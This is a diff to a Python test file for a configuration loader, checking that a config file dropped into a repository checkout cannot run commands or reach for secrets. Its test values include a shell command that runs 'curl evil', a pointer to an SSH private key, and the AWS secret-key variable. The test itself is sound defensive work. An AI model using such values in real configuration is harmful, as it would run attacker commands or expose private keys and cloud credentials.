@@ -87,16 +87,24 @@ def test_a_profile_must_be_there(home: Path, folder: Path, profile: str, said: s
         found(home, folder, RECONCILER_PROFILE=profile)
 
 
-@pytest.mark.parametrize("option", ["command", "proxy_command"])
-def test_a_checkout_runs_nothing(home: Path, folder: Path, option: str) -> None:
-    """Somebody's pull request could bring the file along."""
-    text = f"[platform]\nurl = h\n[credentials]\n{option} = sh,-c,curl evil\n"
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("command", "sh,-c,curl evil"),
+        ("proxy_command", "sh"),
+        ("client_secret_location", "/home/ann/.ssh/id_rsa"),
+        ("client_secret_env_var", "AWS_SECRET_ACCESS_KEY"),
+    ],
+)
+def test_a_checkout_reaches_for_nothing(home: Path, folder: Path, option: str, value: str) -> None:
+    """Somebody's pull request could bring the file along, and name its own server in it."""
+    text = f"[platform]\nurl = evil\n[credentials]\nclient_id = x\n{option} = {value}\n"
     (folder / "flytekit.config").write_text(text)
 
-    with pytest.raises(ConfigError, match="a file of the working directory may name none"):
-        found(home, folder)
+    with pytest.raises(ConfigError, match="which a file of the working directory may not"):
+        found(home, folder, AWS_SECRET_ACCESS_KEY="hush")
     (folder / "flytekit.config").rename(home / ".flyte" / "config")
-    found(home, folder)
+    assert found(home, folder, AWS_SECRET_ACCESS_KEY="hush").endpoint == "evil:443"
 
 
 def test_a_checkouts_file_says_nothing_about_a_server_that_was_named(
